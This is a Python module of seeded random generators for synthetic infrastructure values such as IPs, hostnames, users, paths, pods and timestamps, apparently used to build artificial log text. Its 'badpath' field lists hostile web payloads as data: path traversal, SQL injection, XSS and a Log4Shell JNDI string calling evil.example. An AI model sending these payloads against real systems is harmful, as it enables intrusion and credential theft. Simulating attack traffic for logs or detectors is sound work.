"""Slot values: addresses, names, numbers, paths. Every function takes the seeded generator."""

import string

USERS = "root admin alice bob carol deploy git backup www-data postgres oracle jenkins ubuntu pi test guest nagios mchen j.smith svc_backup support ftpuser olga hadoop minecraft operator dbadmin Administrator".split()
HOSTS = "web01 db-2 node-17 mail gw1 core-sw1 worker-3 ip-10-0-3-17 kube-node-4 srv042 fw-edge storage-b cache01 login2 r2i3n7 lab-pc build-7 app-eu-1 pve3 raspberrypi edge-fra-02 hpc-c114".split()
DOMAINS = "example.com internal.example corp.lan shop.example.net cluster.local eu-west-1.compute.internal lab.example.org".split()
SERVICES = "orders billing payments inventory auth checkout search catalog shipping mailer reports thumbnailer gateway profile ledger notifier scheduler crawler sessions pricing".split()
WORDS = "alpha report users daily main events metrics invoice cart image queue index upload customer archive sync cleanup export import nightly static media assets session device".split()
INTERFACES = "eth0 eth1 eno1 enp3s0 ens192 wlan0 bond0 br0 vlan20 GigabitEthernet0/1 ge-0/0/3 Ethernet1/12 ib0 tun0".split()
DISKS = "sda sdb sdc sdf nvme0n1 nvme1n1 vda dm-3 md0 sdaa xvdb mmcblk0".split()
EXTENSIONS = "conf yaml json toml ini xml cfg log txt db html png js tar.gz".split()
DIRECTORIES = "/etc /var/log /var/lib /srv/app /opt/app /home /usr/share /data /mnt/backup /run /var/spool".split()
AGENTS = ["Mozilla/5.0", "curl/8.5.0", "kube-probe/1.29", "python-requests/2.31", "Go-http-client/1.1", "Prometheus/2.51.0"]
URLS = "/ /index.html /api/v1/users /api/orders/4211 /login /healthz /static/app.js /metrics /search?q=shoes /favicon.ico /v2/items?page=3 /graphql /images/logo.png".split()
JAVA = "com.example.shop.OrderService org.acme.billing.InvoiceJob com.example.web.RequestFilter io.acme.stream.Consumer o.s.web.servlet.DispatcherServlet com.example.db.PoolManager net.acme.cache.CacheLoader".split()
EXCEPTIONS = "NullPointerException IllegalStateException IndexOutOfBoundsException ClassCastException ArithmeticException ConcurrentModificationException NumberFormatException".split()


def _ip(r):
    return r.choice([f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}", f"192.168.{r.randrange(256)}.{r.randrange(1, 255)}",
                     f"{r.randrange(11, 223)}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}", "127.0.0.1", f"172.16.{r.randrange(32)}.{r.randrange(255)}"])


def _hex(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def _num(r):
    return str(r.choice([r.randrange(10), r.randrange(100), r.randrange(10_000), r.randrange(10_000_000)]))


def _small(r):
    return str(r.randrange(1, 33))


def _word(r):
    return r.choice(WORDS)


def _path(r):
    return f"{r.choice(DIRECTORIES)}/{r.choice(WORDS + SERVICES)}" + r.choice(["", f"/{_word(r)}", f".{r.choice(EXTENSIONS)}", f"/{_word(r)}.{r.choice(EXTENSIONS)}"])


def _token(r):
    return "".join(r.choice(string.ascii_lowercase + string.digits) for _ in range(r.choice([5, 8, 10])))


def _uuid(r):
    return "-".join(_hex(r, n) for n in (8, 4, 4, 4, 12))


def _size(r):
    return f"{r.randrange(1, 999)}{r.choice(['.4 ', '.0', ' ', ''])}{r.choice(['KB', 'MB', 'GB', 'MiB', 'GiB', 'K', 'M'])}"


def _pod(r):
    return f"{r.choice(SERVICES)}-{_hex(r, 9)}-{_token(r)[:5]}"


FIELDS = {
    "ip": _ip,
    "ip6": lambda r: f"fe80::{_hex(r, 4)}:{_hex(r, 4)}:{_hex(r, 4)}",
    "port": lambda r: str(r.choice([22, 80, 443, 3306, 5432, 6379, 8080, 9092, r.randrange(1024, 65535)])),
    "addr": lambda r: f"{_ip(r)}:{FIELDS['port'](r)}",
    "host": lambda r: r.choice(HOSTS),
    "fqdn": lambda r: f"{r.choice(HOSTS + SERVICES)}.{r.choice(DOMAINS)}",
    "domain": lambda r: r.choice(DOMAINS),
    "user": lambda r: r.choice(USERS),
    "email": lambda r: f"{r.choice(USERS)}@{r.choice(DOMAINS)}",
    "svc": lambda r: r.choice(SERVICES),
    "word": _word,
    "unit": lambda r: r.choice(SERVICES + WORDS) + r.choice([".service", ".service", ".timer", ".socket", ".mount"]),
    "pid": lambda r: str(r.randrange(2, 99_999)),
    "num": _num,
    "small": _small,
    "big": lambda r: str(r.randrange(10_000, 10**r.randrange(6, 13))),
    "zero": lambda r: "0",
    "pct": lambda r: f"{r.randrange(1, 70)}%",
    "hpct": lambda r: f"{r.randrange(90, 101)}%",
    "ms": lambda r: f"{r.randrange(1, 90)}{r.choice(['', '.' + str(r.randrange(1000))])}{r.choice(['ms', ' ms'])}",
    "slowms": lambda r: f"{r.randrange(2000, 90_000)}{r.choice(['ms', ' ms', '.31ms'])}",
    "sec": lambda r: f"{r.randrange(1, 120)}{r.choice(['', '.0', '.' + str(r.randrange(1000))])}",
    "hex": lambda r: _hex(r, r.choice([6, 8, 12])),
    "addr64": lambda r: "0x" + _hex(r, 16),
    "hash": lambda r: _hex(r, r.choice([12, 32, 40, 64])),
    "uuid": _uuid,
    "token": _token,
    "mac": lambda r: ":".join(_hex(r, 2) for _ in range(6)),
    "path": _path,
    "conf": lambda r: f"/etc/{r.choice(SERVICES + WORDS)}/{r.choice(WORDS + SERVICES)}.{r.choice(['conf', 'yaml', 'yml', 'toml', 'ini', 'cfg', 'json'])}",
    "size": _size,
    "dev": lambda r: r.choice(DISKS),
    "iface": lambda r: r.choice(INTERFACES),
    "url": lambda r: r.choice(URLS),
    "agent": lambda r: r.choice(AGENTS),
    "java": lambda r: r.choice(JAVA),
    "exception": lambda r: r.choice(EXCEPTIONS),
    "pod": _pod,
    "ns": lambda r: r.choice(["default", "kube-system", "prod", "staging", "monitoring", "argocd"]),
    "image": lambda r: f"{r.choice(['registry.example.com/', 'docker.io/library/', 'quay.io/acme/'])}{r.choice(SERVICES)}:{r.choice(['latest', '1.4.2', 'v2.0', 'main-8f3a'])}",
    "version": lambda r: f"{r.randrange(0, 20)}.{r.randrange(30)}.{r.randrange(20)}",
    "key": lambda r: r.choice("max_connections timeout listen_port log_level worker_processes cache_size bind_address data_dir retention ssl_cert buffer_size backend_url tls.min_version pool.size interval replicas queue_limit".split()),
    "temp": lambda r: str(r.randrange(28, 62)),
    "hot": lambda r: str(r.randrange(92, 118)),
    "pci": lambda r: f"0000:{_hex(r, 2)}:{_hex(r, 2)}.{r.randrange(8)}",
    "day": lambda r: f"2026-{r.randrange(1, 13):02}-{r.randrange(1, 29):02}",
    "clock": lambda r: f"{r.randrange(24):02}:{r.randrange(60):02}:{r.randrange(60):02}",
    "badpath": lambda r: r.choice(["/../../etc/passwd", "/wp-login.php", "/.env", "/phpmyadmin/index.php", "/cgi-bin/.%2e/bin/sh", "/index.php?id=1' OR '1'='1", "/?q=<script>alert(1)</script>", "/.git/config", "/item?id=-1 UNION SELECT user,password FROM users", "/actuator/env", "/?x=${jndi:ldap://evil.example/a}"]),
}
